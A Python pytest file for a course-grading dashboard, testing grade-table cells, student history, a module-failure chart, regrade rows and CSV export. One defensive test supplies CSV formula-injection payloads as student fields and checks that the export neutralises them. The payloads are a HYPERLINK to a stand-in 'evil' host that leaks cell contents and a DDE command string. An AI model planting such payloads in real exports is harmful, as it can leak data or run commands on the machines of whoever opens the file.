"""The grade table's cells (failed tests and modules), who is on it, a student's history, the modules chart, the
CSV (priorities, formula cells neutralised) and regrade rows naming whose work they are."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest
from sqlalchemy.orm import Session

from grader.dashboard import charts, export, history, regrades
from grader.dashboard.table import grade_table
from grader.db.models import Enrollment
from grader.errors import NotFound
from grader.users.service import create_user

if TYPE_CHECKING:
    from conftest import Campus

P = [{"priority": 1, "name": "Tensors", "score": 4.0, "max_score": 4.0},
     {"priority": 2, "name": "Autograd", "score": 1.0, "max_score": 6.0}]


def rows(campus: Campus) -> dict[str, dict]:  # type: ignore[type-arg]
    return {r["email"]: r for r in grade_table(campus.session, campus.teacher, campus.cs1)["rows"]}


def test_a_cell_names_the_failed_tests_and_modules(campus: Campus) -> None:
    campus.submit(campus.ada, campus.hw1, 5.0, tests=[
        ("test_add", "passed", "01_tensor", 1), ("test_grad", "failed", "05_autograd", 2),
        ("test_loop", "timeout", "05_autograd", 2), ("test_opt", "error", "06_optimizers", 2),
        ("test_extra", "skipped", "07_training", 3), ("test_odd", "failed", None, 3)])
    shown = rows(campus)["ada@example.edu"]["grades"]["hw1"]
    assert shown["failed_tests"] == ["capstone::test_grad", "capstone::test_loop", "capstone::test_opt",
                                     "capstone::test_odd"]
    assert shown["failed_modules"] == ["05_autograd", "06_optimizers"]
    queued = campus.submit(campus.bob, campus.hw1, None, status="queued")
    bob = rows(campus)["bob@example.edu"]["grades"]["hw1"]
    assert (bob["submission_id"], bob["score"], bob["failed_tests"], bob["failed_modules"]) == (
        str(queued.id), None, [], [])


def test_the_table_lists_students_with_name_and_section_not_staff_or_dropped(db_session: Session,
                                                                             campus: Campus) -> None:
    campus.ada.name = "Ada Lovelace"
    ada_enrollment = db_session.query(Enrollment).filter_by(user_id=campus.ada.id).one()
    ada_enrollment.section = "Tue-2"
    bob_enrollment = db_session.query(Enrollment).filter_by(user_id=campus.bob.id).one()
    bob_enrollment.dropped_at = bob_enrollment.created_at
    campus.submit(campus.bob, campus.hw1, 3.0)
    campus.submit(campus.ta, campus.hw1, 10.0)  # staff trying the assignment out
    walk_in, _ = create_user(db_session, "walk@example.edu", "student")
    campus.submit(walk_in, campus.hw1, 2.0)  # handed in without an enrollment: still shown
    db_session.flush()
    table = rows(campus)
    assert list(table) == ["ada@example.edu", "walk@example.edu"]
    assert (table["ada@example.edu"]["name"], table["ada@example.edu"]["section"]) == ("Ada Lovelace", "Tue-2")
    assert table["ada@example.edu"]["user_id"] == campus.ada.id
    # The dropped student's work is still reachable through their history.
    dropped = history.student_submissions(db_session, campus.teacher, campus.cs1, campus.bob.id)
    assert dropped["user"]["dropped"] is True and len(dropped["submissions"]) == 1


def test_a_students_history_is_every_submission_newest_first(campus: Campus) -> None:
    first = campus.submit(campus.ada, campus.hw1, 9.0, 0)
    second = campus.submit(campus.ada, campus.hw1, 3.0, 10)
    failed = campus.submit(campus.ada, campus.hw1, None, 20, status="failed")
    campus.submit(campus.bob, campus.hw1, 10.0, 5)
    listed = history.student_submissions(campus.session, campus.teacher, campus.cs1, str(campus.ada.id))
    assert listed["user"] == {"user_id": campus.ada.id, "email": "ada@example.edu", "name": None, "role": "student",
                              "section": None, "sis_id": None, "dropped": False}
    subs = listed["submissions"]
    assert [s["id"] for s in subs] == [str(failed.id), str(second.id), str(first.id)]
    assert [s["counts"] for s in subs] == [False, False, True]  # best: the 9 counts
    assert (subs[0]["counted_score"], subs[0]["status"], subs[1]["counted_score"]) == (None, "failed", 3.0)
    assert subs[2]["filename"] == "tinytorch.zip" and subs[2]["assignment"] == "hw1"


@pytest.mark.parametrize("user_id", ["abc", "", "-1", "0", "99999999999999999999", "1e3", "١٢", "2147483648"])
def test_a_history_of_no_such_student_is_not_found(campus: Campus, user_id: str) -> None:
    with pytest.raises(NotFound):
        history.student_submissions(campus.session, campus.teacher, campus.cs1, user_id)


def test_a_student_id_in_other_digits_is_no_id(campus: Campus) -> None:
    arabic_indic = str(campus.ada.id).translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))
    with pytest.raises(NotFound):
        history.student_submissions(campus.session, campus.teacher, campus.cs1, arabic_indic)


def test_the_modules_chart_of_an_assignment_nobody_handed_in_is_empty(campus: Campus) -> None:
    campus.submit(campus.ada, campus.hw1, None, status="queued")  # not graded: not in the charts
    assert charts.module_failures(campus.session, campus.teacher, campus.cs1, "hw1") == {
        "assignment": "hw1", "students": 0, "modules": [], "priorities": []}
    with pytest.raises(NotFound):
        charts.module_failures(campus.session, campus.teacher, campus.cs1, "no-such")


def test_the_modules_chart_says_what_the_class_got_wrong(campus: Campus) -> None:
    autograd_fail = [("test_grad", "failed", "05_autograd", 2), ("test_add", "passed", "01_tensor", 1)]
    campus.submit(campus.ada, campus.hw1, 5.0, tests=[*autograd_fail, ("test_odd", "error", None, 3)], priorities=P)
    campus.submit(campus.bob, campus.hw1, 7.0, tests=[("test_grad", "failed", "05_autograd", 2),
                                                      ("test_back", "timeout", "05_autograd", 2),
                                                      ("test_add", "failed", "01_tensor", 1)],
                  priorities=[{**P[0], "score": 2.0}, {**P[1], "score": 3.0}])
    # ada's earlier, lower submission does not count (best), so its failures are not the class's.
    campus.submit(campus.ada, campus.hw1, 1.0, -10, tests=[("test_opt", "failed", "06_optimizers", 2)])
    chart = charts.module_failures(campus.session, campus.teacher, campus.cs1, "hw1")
    assert chart["students"] == 2
    assert chart["modules"] == [
        {"module": "05_autograd", "label": None, "students_failing": 2, "share": 1.0,
         "tests_failing": ["capstone::test_back", "capstone::test_grad"]},
        {"module": "01_tensor", "label": None, "students_failing": 1, "share": 0.5,
         "tests_failing": ["capstone::test_add"]},
        {"module": None, "label": None, "students_failing": 1, "share": 0.5, "tests_failing": ["capstone::test_odd"]},
    ]
    assert chart["priorities"] == [
        {"priority": 1, "name": "Tensors", "mean_score": 3.0, "max_score": 4.0},
        {"priority": 2, "name": "Autograd", "mean_score": 2.0, "max_score": 6.0},
    ]


def test_the_csv_has_a_column_per_priority(campus: Campus) -> None:
    campus.submit(campus.ada, campus.hw1, 5.0, priorities=[*P, {"priority": None, "name": "module suite",
                                                                "score": 2.0, "max_score": 2.0}])
    text = export.csv_export(campus.session, campus.teacher, campus.cs1)
    header = text.splitlines()[0].split(",")
    assert header[-3:] == ["hw1 P1", "hw1 P2", "hw1 module suite"]
    by_email = {r["email"]: r for r in csv.DictReader(io.StringIO(text))}
    assert (by_email["ada@example.edu"]["hw1 P1"], by_email["ada@example.edu"]["hw1 P2"]) == ("4", "1")
    assert (by_email["bob@example.edu"]["hw1 P1"], by_email["bob@example.edu"]["hw1 status"]) == ("", "missing")


@pytest.mark.parametrize("hostile", ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_the_csv_neutralises_formula_cells(db_session: Session, campus: Campus, hostile: str) -> None:
    campus.ada.name = hostile
    db_session.query(Enrollment).filter_by(user_id=campus.ada.id).one().section = hostile
    db_session.query(Enrollment).filter_by(user_id=campus.ada.id).one().sis_id = hostile
    db_session.flush()
    text = export.csv_export(db_session, campus.teacher, campus.cs1)
    ada = next(r for r in csv.DictReader(io.StringIO(text)) if r["email"] == "ada@example.edu")
    for column in ("name", "section", "sis_id"):
        assert ada[column] == "'" + hostile  # read back whole, starting with a quote: text, not a formula
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in csv.reader(io.StringIO(text)) for cell in row)


def test_regrade_rows_say_whose_work_it_is(campus: Campus) -> None:
    campus.ada.name = "Ada Lovelace"
    campus.submit(campus.ada, campus.hw1, 5.0)
    campus.submit(campus.bob, campus.hw1, 6.0, 1)
    batch = regrades.regrade_all(campus.session, campus.teacher, campus.cs1, "hw1", requeue=lambda _: None)["batch"]
    shown = regrades.regrade_batch(campus.session, campus.ta, batch)["regrades"]
    assert [(r["user_id"], r["email"], r["name"]) for r in shown] == [
        (campus.ada.id, "ada@example.edu", "Ada Lovelace"), (campus.bob.id, "bob@example.edu", None)]
